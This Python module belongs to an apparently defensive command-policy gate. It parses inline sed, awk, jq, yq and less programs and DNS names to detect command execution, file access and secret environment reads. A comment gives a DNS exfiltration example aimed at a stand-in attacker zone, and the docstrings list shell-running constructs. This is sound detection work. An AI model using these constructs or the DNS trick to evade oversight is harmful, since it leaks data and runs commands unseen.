"""Scanners for programs given inline to a tool: sed scripts, awk programs, jq and yq filters,
less start-up commands and the names a DNS lookup sends. Each parses its language (a small
tokenizer, not a regex over the argument) and returns the effects it finds; a construct it
does not know is ``unknown``.
"""

from __future__ import annotations

import ipaddress
import re

from bastion.policy.options import Effect
from bastion.policy.secretnames import secret_variable

# -- sed (GNU sed 4.9, `info sed` "sed scripts") ---------------------------------------------
_SED_SIMPLE = frozenset("=dDgGhHnNpPxzF")
_SED_NUMARG = frozenset("lLqQ")


def scan_sed(script: str, sandbox: bool = False) -> list[Effect]:
    """Effects of a sed script. With --sandbox, sed refuses e/r/w, so those are harmless."""
    effects: list[Effect] = []
    n = len(script)
    i = 0
    depth = 0

    def add(kind: str, value: str, what: str) -> None:
        if sandbox and kind in ("runs", "runs-shell", "reads", "writes"):
            return  # sed --sandbox rejects the whole script before running it
        effects.append(Effect(kind, value, True, f"sed script: {what}"))

    def unknown(what: str) -> list[Effect]:
        effects.append(Effect("unknown", what, True, f"sed script: {what}"))
        return effects

    def to_eol(j: int) -> tuple[str, int]:
        k = script.find("\n", j)
        k = n if k < 0 else k
        return script[j:k], k

    def delimited(j: int, delim: str) -> int | None:
        """Index just past the closing ``delim`` of a part that starts at j."""
        while j < n:
            c = script[j]
            if c == "\\":
                j += 2
                continue
            if c == delim:
                return j + 1
            if c == "\n" and delim != "\n":
                return None
            j += 1
        return None

    def address(j: int) -> int | None:
        if j < n and script[j].isdigit():
            while j < n and script[j].isdigit():
                j += 1
            if j < n and script[j] == "~":
                j += 1
                while j < n and script[j].isdigit():
                    j += 1
            return j
        if j < n and script[j] == "$":
            return j + 1
        if j < n and script[j] in "/\\":
            if script[j] == "\\":
                if j + 1 >= n or script[j + 1] in "\n\\":
                    return None
                delim, j = script[j + 1], j + 2
            else:
                delim, j = "/", j + 1
            end = delimited(j, delim)
            if end is None:
                return None
            j = end
            while j < n and script[j] in "IM":
                j += 1
            return j
        return j

    while i < n:
        c = script[i]
        if c in " \t\n;":
            i += 1
            continue
        if c == "#":
            _, i = to_eol(i)
            continue
        if c == "}":
            depth -= 1
            if depth < 0:
                return unknown("unmatched }")
            i += 1
            continue
        # addresses: A, A,B, A,+N, A,~N, and ! (any number of spaces around)
        start = i
        j = address(i)
        if j is None:
            return unknown("bad address")
        if j > start:
            while j < n and script[j] == " ":
                j += 1
            if j < n and script[j] == ",":
                j += 1
                while j < n and script[j] == " ":
                    j += 1
                if j < n and script[j] in "+~":
                    j += 1
                    while j < n and script[j].isdigit():
                        j += 1
                else:
                    k = address(j)
                    if k is None or k == j:
                        return unknown("bad address range")
                    j = k
        while j < n and script[j] in " \t":
            j += 1
        while j < n and script[j] == "!":
            j += 1
            while j < n and script[j] in " \t":
                j += 1
        if j >= n:
            return unknown("address without a command")
        cmd = script[j]
        j += 1
        if cmd == "{":
            depth += 1
            i = j
        elif cmd in _SED_SIMPLE:
            i = j
        elif cmd in _SED_NUMARG:
            while j < n and script[j] in " \t":
                j += 1
            while j < n and script[j].isdigit():
                j += 1
            i = j
        elif cmd in ":btT":
            k = j
            while k < n and script[k] not in ";\n":
                k += 1
            if cmd == ":" and not script[j:k].strip():
                return unknown(": without a label")
            i = k
        elif cmd in "aic":
            # `a text` (one line) or `a\` followed by lines ending in backslash
            text, k = to_eol(j)
            while text.endswith("\\") and k < n:
                more, k = to_eol(k + 1)
                text = more
            i = k
        elif cmd == "e":
            rest, i = to_eol(j)
            command = rest.strip()
            if command:  # held, not re-gated: sed runs it once per input line it reaches
                add("runs", command, f"e {command} (runs a shell command)")
            else:
                add("runs", "pattern space", "e (runs the pattern space as a command)")
        elif cmd in "rRwW":
            rest, i = to_eol(j)
            path = rest.strip()
            if not path:
                return unknown(f"{cmd} without a file name")
            add("reads" if cmd in "rR" else "writes", path, f"{cmd} {path}")
        elif cmd == "v":  # `v [version]`: requires GNU sed, does nothing
            i = j
            while i < n and script[i] not in ";\n}":
                i += 1
        elif cmd in "sy":
            if j >= n or script[j] in "\n\\":
                return unknown(f"{cmd} without a delimiter")
            delim = script[j]
            k = delimited(j + 1, delim)
            k = delimited(k, delim) if k is not None else None
            if k is None:
                return unknown(f"unterminated {cmd} command")
            j = k
            if cmd == "s":
                while j < n and script[j] not in ";\n}#":
                    f = script[j]
                    if f in "gpiImM" or f.isdigit() or f in " \t":
                        j += 1
                    elif f == "e":
                        add("runs", "pattern space", "s///e (runs the result as a command)")
                        j += 1
                    elif f == "w":
                        rest, j = to_eol(j + 1)
                        path = rest.strip()
                        if not path:
                            return unknown("s///w without a file name")
                        add("writes", path, f"s///w {path}")
                    else:
                        return unknown(f"s flag {f!r}")
            i = j
        else:
            return unknown(f"command {cmd!r}")
    if depth != 0:
        return unknown("unmatched {")
    return effects


# -- awk (POSIX awk, gawk and mawk; `man gawk` "I/O Statements") -----------------------------
_AWK_TOKEN = re.compile(
    r"""(?P<ws>[ \t\r]+|\\\n)|(?P<nl>\n)|(?P<comment>\#[^\n]*)|(?P<str>"(?:[^"\\\n]|\\.)*")|"""
    r"""(?P<num>(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?)|(?P<id>[A-Za-z_][A-Za-z0-9_]*)|"""
    r"""(?P<dir>@[A-Za-z_]+)|(?P<op>\|\&|\|\||&&|>>|[<>!=]=|\+\+|--|[-+*/%^]=|[{}()\[\];,<>|!?:~$+\-*/%^=&])"""
)
_AWK_OPERAND_END = frozenset({"id", "num", "str", "regex"})
_AWK_STATEMENT_END = frozenset({";", "\n", "}", "{"})


def _awk_tokens(text: str) -> list[tuple[str, str]] | None:
    out: list[tuple[str, str]] = []
    i = 0
    n = len(text)
    while i < n:
        c = text[i]
        if c == "/":
            prev = out[-1] if out else ("op", "(")
            is_regex = not (prev[0] in _AWK_OPERAND_END or prev[1] in (")", "]", "$", "++", "--"))
            if prev[0] == "id" and prev[1] in ("print", "printf", "return", "in", "getline"):
                is_regex = True
            if is_regex:
                j = i + 1
                in_bracket = False
                while j < n and (text[j] != "/" or in_bracket):
                    if text[j] == "\\":
                        j += 1
                    elif text[j] == "[":
                        in_bracket = True
                    elif text[j] == "]":
                        in_bracket = False
                    elif text[j] == "\n":
                        return None
                    j += 1
                if j >= n:
                    return None
                out.append(("regex", text[i:j + 1]))
                i = j + 1
                continue
        m = _AWK_TOKEN.match(text, i)
        if m is None:
            return None
        kind = m.lastgroup or ""
        if kind == "nl":
            out.append(("op", "\n"))
        elif kind not in ("ws", "comment"):
            out.append((kind, m.group()))
        i = m.end()
    return out


def _awk_env_name(tokens: list[tuple[str, str]], k: int) -> str | None:
    """The literal name in ``ENVIRON["NAME"]`` at token k, else None."""
    if k + 3 < len(tokens) and tokens[k + 1] == ("op", "[") and tokens[k + 3] == ("op", "]"):
        kind, text = tokens[k + 2]
        if kind == "str" and len(text) >= 2 and text[1:-1].replace("_", "a").isalnum():
            return text[1:-1]
    return None


def scan_awk(program: str, sandbox: bool = False) -> list[Effect]:
    """Effects of an awk program. gawk --sandbox disables system(), redirections and pipes."""
    effects: list[Effect] = []

    def add(kind: str, value: str, what: str) -> None:
        if sandbox and kind in ("runs", "reads", "writes", "unknown-io"):
            return
        if kind == "unknown-io":
            kind = "unknown"
        effects.append(Effect(kind, value, True, f"awk program: {what}"))

    tokens = _awk_tokens(program)
    if tokens is None:
        return [Effect("unknown", "tokens", True, "awk program: cannot be tokenized")]
    n = len(tokens)
    in_print = False
    print_depth = 0
    depth = 0
    for k, (kind, text) in enumerate(tokens):
        nxt = tokens[k + 1] if k + 1 < n else ("op", "")
        if kind == "op" and text in "([":
            depth += 1
        elif kind == "op" and text in ")]":
            depth -= 1
        if in_print and kind == "op" and text in _AWK_STATEMENT_END and depth <= print_depth:
            in_print = False
        if kind == "dir":
            if text == "@include" and nxt[0] == "str":
                effects.append(Effect("reads", nxt[1][1:-1], True, f"awk program: @include "
                                                                     f"{nxt[1]}"))
            if text in ("@include", "@load"):
                effects.append(Effect("unknown", text, True,
                                      f"awk program: {text} brings in code the gate cannot see"))
            elif text != "@namespace":
                effects.append(Effect("unknown", text, True, f"awk program: directive {text}"))
            continue
        if kind == "id":
            if text == "system" and nxt[1] == "(":
                add("runs", "system()", "system() runs a shell command")
            elif text == "ENVIRON":
                # ENVIRON["HOME"] reads one named variable: judged by its name; any other use
                # (a loop over it, a computed subscript) reads them all.
                name = _awk_env_name(tokens, k)
                if name is None or secret_variable(name):
                    effects.append(Effect("secrets", "ENVIRON", True,
                                          "awk program: ENVIRON prints environment variables"))
            elif text in ("print", "printf"):
                in_print = True
                print_depth = depth
            elif text == "getline":
                j = k + 1
                if j < n and tokens[j][0] == "id":  # getline var < file
                    j += 1
                    if j < n and tokens[j][1] == "[":
                        add("unknown-io", "getline", "getline into an array element")
                        continue
                elif j < n and tokens[j][1] == "$":
                    j += 2
                if j < n and tokens[j][1] == "<":
                    target = tokens[j + 1] if j + 1 < n else ("op", "")
                    after = tokens[j + 2] if j + 2 < n else ("op", "\n")
                    # `getline < "a" "b"` reads the file "ab": only a lone string is known
                    if target[0] == "str" and after[0] not in ("str", "id", "num") and (
                        after[1] not in ("$", "(")
                    ):
                        add("reads", target[1][1:-1], f"getline < {target[1]}")
                    else:
                        add("unknown-io", "getline <", "getline < an expression (file unknown)")
            continue
        if kind != "op":
            continue
        if text == "|&":
            add("runs", "|&", "|& runs a coprocess")
        elif text == "|":
            if nxt == ("id", "getline"):
                add("runs", "| getline", "\"cmd\" | getline runs a shell command")
            elif in_print and depth <= print_depth:
                add("runs", "print |", "print | \"cmd\" runs a shell command")
            else:
                add("unknown-io", "|", "a pipe the scanner cannot place")
        elif text in (">", ">>") and in_print and depth <= print_depth:
            after = tokens[k + 2] if k + 2 < n else ("op", "\n")
            if nxt[0] == "str" and after[1] in _AWK_STATEMENT_END:
                add("writes", nxt[1][1:-1], f"print {text} {nxt[1]}")
            else:
                add("unknown-io", text, f"print {text} an expression (file unknown)")
    return effects


# -- jq (jq 1.7 manual) ----------------------------------------------------------------------
_JQ_STRING = re.compile(r'"(?:[^"\\]|\\.)*"')
_JQ_WORD = re.compile(r"(\$?[A-Za-z_][A-Za-z0-9_]*)|#[^\n]*")
_JQ_ENV_NAME = re.compile(r'\s*(?:\.\s*([A-Za-z_]\w*)(?![\w\[.])|\[\s*"(\w+)"\s*\])')


def scan_jq(program: str, sandbox: bool = False) -> list[Effect]:
    """Effects of a jq filter: environment reads and module loading (jq runs nothing)."""
    effects: list[Effect] = []
    # Plain string literals are data; one with \( ... ) interpolation is scanned as code.
    text = _JQ_STRING.sub(lambda m: m.group() if "\\(" in m.group() else '""', program)
    for m in _JQ_WORD.finditer(text):
        word = m.group(1)
        if word is None:
            continue
        start = m.start()
        if start > 0 and text[start - 1] == ".":
            continue  # a field name: .env
        if word in ("env", "$ENV"):
            # env.HOME / $ENV["CI"] read one named variable: judged by its name; bare env is
            # the whole environment.
            named = _JQ_ENV_NAME.match(text, m.end())
            name = (named.group(1) or named.group(2)) if named else None
            if name is None or secret_variable(name):
                effects.append(Effect("secrets", word, True,
                                      f"jq filter: {word} prints environment variables"))
        elif word in ("import", "include", "modulemeta", "get_search_list"):
            effects.append(Effect("unknown", word, True,
                                  f"jq filter: {word} loads modules the gate cannot see"))
    return effects


# -- less: `+cmd` runs a less command at start-up --------------------------------------------
_LESS_SAFE = re.compile(r"^\+?(?:\d*[gGp%]?|[GgFN]|[/?][^\n]*)$")


def scan_less(command: str, sandbox: bool = False) -> list[Effect]:
    """`+G`, `+F`, `+42`, `+/pattern` are movements and searches; anything else (`+!cmd`,
    `+|`, `+s file`, `+v`) can run a program or write a file."""
    if _LESS_SAFE.match(command):
        return []
    return [Effect("runs", command, True, f"less command +{command} (may run a shell command "
                                          "or write a file)")]


# -- yq: kislyuk's yq is jq on YAML (a jq filter); mikefarah's yq v4 has its own operators ----
_YQ_ENV_CALL = re.compile(r"(?<![\w.$])(?:str)?env\s*\(\s*([A-Za-z_]\w*)?\s*\)")
_YQ_WORDS = {
    "envsubst": ("secrets", "substitutes environment variables into strings"),
    "load": ("unknown", "loads a file the gate cannot place"),
    "load_str": ("unknown", "loads a file the gate cannot place"),
    "load_xml": ("unknown", "loads a file the gate cannot place"),
    "load_props": ("unknown", "loads a file the gate cannot place"),
    "load_base64": ("unknown", "loads a file the gate cannot place"),
    "eval": ("unknown", "evaluates an expression only known at run time"),
}


def scan_yq(program: str, sandbox: bool = False) -> list[Effect]:
    """Effects of a yq expression, read as both dialects: the jq features (``env``, ``$ENV``,
    ``import``), mikefarah's ``env(NAME)``/``strenv(NAME)`` (judged by the variable's name),
    ``envsubst`` (every variable), ``load*`` and ``eval`` (unknown)."""
    effects: list[Effect] = []
    text = _JQ_STRING.sub(lambda m: m.group() if "\\(" in m.group() else '""', program)

    def env_call(m: re.Match[str]) -> str:
        name = m.group(1)
        if name is None or secret_variable(name):
            effects.append(Effect("secrets", m.group(), True,
                                  f"yq expression: {m.group()} prints an environment variable"))
        return "null"

    text = _YQ_ENV_CALL.sub(env_call, text)
    effects.extend(scan_jq(text, sandbox))
    for m in _JQ_WORD.finditer(text):
        word = m.group(1)
        hit = _YQ_WORDS.get(word or "")
        if hit is not None and not (m.start() > 0 and text[m.start() - 1] == "."):
            effects.append(Effect(hit[0], word or "", True, f"yq expression: {word} {hit[1]}"))
    return effects


# -- DNS names: a lookup sends the name to resolvers and to the zone's servers ---------------
# A name is a payload: `dig <data>.evil.example` delivers <data> to whoever runs the zone. Plain
# host names pass (labels of letters, digits, `-`, `_`, at most 40 characters each, 120 in
# all), as do IP addresses, `@server` and reverse names; a longer label, an odd character or
# a name with many labels is held as `network`.
_DNS_LABEL = re.compile(r"^[A-Za-z0-9_](?:[A-Za-z0-9_-]{0,38}[A-Za-z0-9_])?$")
_DNS_MAX_LABELS = 8
_DNS_REVERSE = re.compile(r"^[0-9a-fA-F.]+\.(?:in-addr|ip6)\.arpa\.?$")


def dns_name_ok(name: str) -> bool:
    """True for a plain host name or address, the kind of name that carries no data."""
    name = name.removeprefix("@")
    try:
        ipaddress.ip_address(name.split("%", 1)[0])
        return True
    except ValueError:
        pass
    if _DNS_REVERSE.match(name) and len(name) <= 80:
        return True
    labels = name.removesuffix(".").split(".")
    return (0 < len(name) <= 120 and len(labels) <= _DNS_MAX_LABELS
            and all(_DNS_LABEL.match(label) for label in labels))


def scan_dns(name: str, sandbox: bool = False) -> list[Effect]:
    """A name given to a lookup tool (dig, host, nslookup, ping, traceroute)."""
    if dns_name_ok(name):
        return []
    return [Effect("network", name, True,
                   f"looks up {name!r}: not a plain host name (a DNS name can carry data to "
                   "the zone's servers)")]


SCANNERS = {"sed": scan_sed, "awk": scan_awk, "gawk": scan_awk, "jq": scan_jq, "less": scan_less,
            "yq": scan_yq, "dns": scan_dns}
